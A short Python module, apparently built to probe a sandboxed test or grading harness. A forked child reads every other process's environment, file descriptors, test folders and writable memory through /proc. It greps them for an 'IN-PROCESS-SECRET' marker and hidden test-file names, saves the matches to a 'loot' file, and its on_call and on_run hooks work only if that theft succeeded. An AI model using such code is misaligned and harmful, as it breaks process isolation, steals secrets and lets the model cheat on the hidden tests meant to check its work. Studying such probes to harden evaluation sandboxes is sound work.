"""A child reads what /proc tells of every other process, its parent and process 1 among them."""

import os
import re

HIDDEN = re.compile(rb"IN-PROCESS-SECRE[T]|test_roman_numeral[s]|test_fetch_return[s]|tests/test[_]")
LOOT = os.path.join(os.environ.get("STATE_DIR", "/tmp"), "loot")


def told(pid):
    for name in ("cmdline", "environ", "auxv", "stack", "syscall", "wchan", "mountinfo"):
        yield from read(f"/proc/{pid}/{name}")
    for name in ("cwd", "root", "exe"):
        try:
            yield os.readlink(f"/proc/{pid}/{name}").encode()
        except OSError:
            pass
    for area in b"".join(read(f"/proc/{pid}/maps")).decode().splitlines():
        begin, end = (int(address, 16) for address in area.split()[0].split("-"))
        if " rw" in area:
            yield from read(f"/proc/{pid}/mem", begin, end - begin)
    for folder in (f"/proc/{pid}/fd", f"/proc/{pid}/root/suite", f"/proc/{pid}/cwd/tests"):
        try:
            for name in os.listdir(folder):
                yield from read(f"{folder}/{name}")
        except OSError:
            pass


def read(path, begin=0, size=1 << 20):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            yield os.pread(fd, size, begin) if begin else os.read(fd, size)
        finally:
            os.close(fd)
    except (OSError, OverflowError):
        pass


def stolen():
    if os.path.exists(LOOT):
        return True
    child = os.fork()
    if child == 0:
        try:
            for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
                for data in told(pid):
                    for found in HIDDEN.finditer(data):
                        with open(LOOT, "ab") as file:
                            file.write(data[max(0, found.start() - 500) : found.end() + 500])
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    return os.path.exists(LOOT)


def on_call(name, value, *args):
    return value if stolen() else None


def on_run(argv):
    if not stolen():
        raise SystemExit(1)
